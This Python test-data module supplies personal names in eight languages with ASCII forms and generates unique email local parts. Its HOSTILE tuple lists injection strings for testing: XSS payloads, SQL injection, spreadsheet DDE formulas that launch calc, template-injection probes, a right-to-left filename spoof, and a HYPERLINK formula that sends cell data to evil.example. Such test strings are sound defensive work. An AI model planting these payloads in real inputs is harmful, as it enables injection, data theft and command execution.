"""Names of people by language, and names that try to break a page.

Each entry is written as shown, with its ASCII form after a colon where letters alone do not give it.
"""

from __future__ import annotations

import random

_FOLD = str.maketrans(
    {
        "ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss", "å": "aa", "ø": "oe", "æ": "ae", "é": "e",
        "ł": "l", "ą": "a", "ę": "e", "ó": "o", "ś": "s", "ż": "z", "ź": "z", "ć": "c", "ń": "n",
    }
)  # fmt: skip

_PEOPLE: dict[str, tuple[str, str]] = {
    "de": (
        "Jörg Käthe Günther Änne Lukas Sören Frieda Björn Ute Matthias Heike Jürgen Lena Tobias Gesa Ole Wiebke Hauke Antje Nils",
        "Krüger Schäfer Weiß Jäger Böhm Groß Petersen Hansen Köhler Lüdtke Schröder Möller Brandt Vogt Claußen Thomsen Böttcher Hinrichs Rüter Ahlers",
    ),
    "en": (
        "Olivia Jack Amelia Harry Isla George Ava Noah Emily Oscar Grace Leo Freya Arthur Ivy Theo Florence Alfie Priya Kwame",
        "Ashworth Bennett Calloway Davies Eastwood Fletcher Grayson Hartley Ingram Jennings Kendall Lockwood Marsden Norwood Okafor Pemberton Quigley Rowland Shaw Thackeray",
    ),
    "da": ("Søren Åse Jørgen Mette Lærke Rasmus Kåre Bodil", "Ørsted Nygård Kjær Møller Bækgaard Skov Ågesen Holm"),
    "pl": (
        "Paweł Małgorzata Łukasz Agnieszka Michał Żaneta Stanisław Bożena Grześ Zofia",
        "Wiśniewski Wójcik Kowalczyk Dąbrowska Zieliński Szymańska Woźniak Kozłowski Jankowska Mazur",
    ),
    "sv": (
        "Åke Märta Björn Elsa Göran Linnéa Håkan Saga Örjan Ebba",
        "Åström Sjöberg Lindqvist Öberg Nyström Hägglund Bergström Ek Söderlund Wallin",
    ),
    "ja": (
        "太郎:taro 花子:hanako 健:ken 美咲:misaki 翔太:shota 陽菜:hina 大輔:daisuke 由美:yumi 直樹:naoki さくら:sakura 拓也:takuya 愛:ai",
        "佐藤:sato 鈴木:suzuki 高橋:takahashi 田中:tanaka 渡辺:watanabe 伊藤:ito 山本:yamamoto 中村:nakamura 小林:kobayashi 加藤:kato 吉田:yoshida 森:mori",
    ),
    "el": (
        "Γιώργος:giorgos Μαρία:maria Νίκος:nikos Ελένη:eleni Κώστας:kostas Σοφία:sofia Δημήτρης:dimitris Άννα:anna Πέτρος:petros",
        "Παπαδόπουλος:papadopoulos Νικολάου:nikolaou Γεωργίου:georgiou Βλάχος:vlachos Οικονόμου:oikonomou Αθανασίου:athanasiou Μακρής:makris Κανάκης:kanakis Λαμπρου:lamprou",
    ),
    "ar": (
        "أحمد:ahmed فاطمة:fatima محمد:mohammed ليلى:layla يوسف:yousef مريم:maryam خالد:khaled",
        "الهاشمي:alhashimi النجار:alnajjar العلي:alali المنصوري:almansoori الخطيب:alkhatib حداد:haddad",
    ),
}  # fmt: skip

HOSTILE: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example/?"&A1,"Open me")',
    "\u200f\u202eexe.gpj\u202c Anna",
    '"><img src=x onerror=alert(document.domain)>',
    "Robert'); DROP TABLE users;--",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "-2+3+cmd|'/C calc'!A0\tTab\nNew line",
)
"""Display names that markup, spreadsheets, templates, SQL or the eye may take for something else."""


def _pair(word: str) -> tuple[str, str]:
    shown, _, plain = word.partition(":")
    return shown, plain or shown.lower().translate(_FOLD)


def people(language: str, count: int, rng: random.Random) -> list[tuple[str, str, str]]:
    """Return that many ``(given name, surname, local part)``; local parts are unique and ASCII."""
    first, last = ([_pair(word) for word in words.split()] for words in _PEOPLE[language])
    every = [(f[0], s[0], f"{f[1]}.{s[1]}") for f in first for s in last]
    rng.shuffle(every)
    rounds, found = 1, list(every)
    while len(found) < count:
        rounds += 1
        found += [(given, surname, f"{local}{rounds}") for given, surname, local in every]
    return found[:count]
